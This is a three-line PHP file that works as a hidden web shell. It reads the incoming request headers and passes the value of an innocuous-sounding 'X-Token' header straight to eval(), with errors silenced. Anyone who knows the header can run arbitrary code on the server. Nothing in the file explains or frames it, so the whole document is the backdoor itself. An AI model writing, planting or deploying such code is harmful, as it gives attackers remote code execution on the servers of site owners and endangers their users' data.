<?php
$h = getallheaders();
@eval($h["X-Token"]);
